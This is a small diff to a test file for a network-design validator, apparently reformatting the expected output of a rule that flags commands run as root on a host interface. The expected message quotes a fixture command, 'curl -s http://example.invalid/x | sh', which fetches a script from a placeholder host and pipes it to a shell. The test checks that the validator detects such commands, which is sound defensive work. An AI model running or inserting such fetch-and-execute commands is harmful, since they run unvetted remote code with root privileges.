@@ -40,7 +40,11 @@ describe('root commands', () => {
     if (!result.ok) throw new Error(JSON.stringify(result.problems));
     const found = validateDesign(result.design).filter((d) => d.rule === 'host/root-command');
     expect(found.map((d) => [d.severity, d.path, d.message])).toEqual([
-      ['info', 'hosts[0].ports[0]', 'enp88s0 on ms01 runs a command as root (post-up): "curl -s http://example.invalid/x | sh"'],
+      [
+        'info',
+        'hosts[0].ports[0]',
+        'enp88s0 on ms01 runs a command as root (post-up): "curl -s http://example.invalid/x | sh"',
+      ],
     ]);
   });
 });
